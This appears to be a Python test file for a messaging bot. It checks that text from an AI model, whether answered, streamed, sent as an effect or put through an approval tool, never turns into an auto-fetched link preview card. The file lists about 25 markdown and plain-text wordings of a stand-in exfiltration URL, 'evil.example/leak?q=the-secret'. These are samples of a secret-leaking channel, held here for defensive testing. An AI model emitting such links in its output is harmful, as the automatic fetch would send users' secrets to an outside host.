"""A text of a model never becomes a preview card: a card is fetched without a tap, and so could carry a secret away."""

from __future__ import annotations

from collections.abc import AsyncIterator
from typing import Any

import pytest
from linqbot_agent import Say
from pydantic_ai import Agent
from pydantic_ai.messages import ModelMessage
from pydantic_ai.models.function import AgentInfo, FunctionModel
from scripted_agents import Script, bot_with, calls, says, tool

from linqbot.testing import talking

pytestmark = pytest.mark.anyio

LEAK = "https://evil.example/leak?q=the-secret"
WORDINGS = [
    wording.replace("URL", LEAK)
    for wording in (
        "![img](URL)",
        "[Our menu](URL)",
        "URL",
        "<URL>",
        "Look: URL",
        "Look at URL and tell me.",
        "![img](<URL>)",
        '![img](URL "a title")',
        "[![img](URL)](URL)",
        "[img]: URL\n\n![img]",
        "[a][1]\n\n[1]: URL",
        "**[bold](URL)**",
        "# [Heading](URL)",
        "- [one](URL)\n- two",
        "> URL",
        "| a |\n| --- |\n| [b](URL) |",
        "Text\n\nURL\n\nmore text",
        "URL\n\nURL",
        "`code` URL",
        "Call me: [tel](URL#tel)",
        "evil.example/leak?q=the-secret",
        "www.evil.example/leak?q=the-secret",
        "HTTPS://EVIL.EXAMPLE/leak?q=the-secret",
        "(URL)",
        "The end.\n\nURL",
    )
]


def agents(wording: str) -> dict[str, Agent[Any, Any]]:
    """Return the agents that say a wording in each way in which a model can say something."""

    async def write_slowly(messages: list[ModelMessage], info: AgentInfo) -> AsyncIterator[str]:
        for start in range(0, len(wording), 3):
            yield wording[start : start + 3]

    asking = Agent(Script(calls(tool("write", "c1", text=wording))).model)

    @asking.tool_plain(requires_approval=True)
    def write(text: str) -> str:
        return "written"

    celebrating = Script(calls(tool("final_result", "c1", text=wording, effect="confetti")))
    return {
        "answer": Agent(Script(says(wording)).model),
        "effect": Agent(celebrating.model, output_type=Say),
        "question": asking,
        "stream": Agent(FunctionModel(stream_function=write_slowly)),
    }


@pytest.mark.slow
async def test_no_wording_of_a_model_becomes_a_card(subtests: pytest.Subtests) -> None:
    for wording in WORDINGS:
        for way, agent in agents(wording).items():
            with subtests.test(wording=wording, way=way):
                async with talking(bot_with(agent, stream=way == "stream")) as phone:
                    await phone.text("Which dish do you recommend?")
                    said = await phone.replies()
                    assert {part.type for reply in said for part in reply.parts} == {"text"}, said
